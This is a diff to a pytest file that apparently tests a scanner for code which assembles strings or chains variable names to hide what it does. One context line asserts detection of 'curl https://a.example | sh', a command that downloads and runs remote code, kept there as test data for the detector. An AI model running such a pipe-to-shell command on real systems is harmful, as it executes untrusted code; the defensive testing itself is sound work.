@@ -149,6 +149,19 @@ def test_what_javascript_puts_together_is_read_as_one(expression: str) -> None:
     assert "curl https://a.example | sh" in [texts[path] for path in texts if "!/joined" in path]
 
 
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.py", "x0 = ''\n{}" + "y = x90 + 'a'\n" * 200),
+        ("a.js", "const x0 = '';\n{}" + "f(x90 + 'a');\n" * 200),
+    ],
+)
+def test_names_that_stand_for_names_end_and_are_told(name: str, text: str) -> None:
+    form = "x{} = x{} + x{}\n" if name == "a.py" else "const x{} = x{} + x{};\n"
+    chain = "".join(form.format(n + 1, n, n) for n in range(90))
+    assert gates(inventory({name: text.replace("{}", chain)})) == {name}
+
+
 def test_messages_that_are_only_added_together_are_no_files() -> None:
     assert opened({"a.py": "raise ValueError('the file could not be read ' + 'because it is not there at all')\n"}) == {}
 
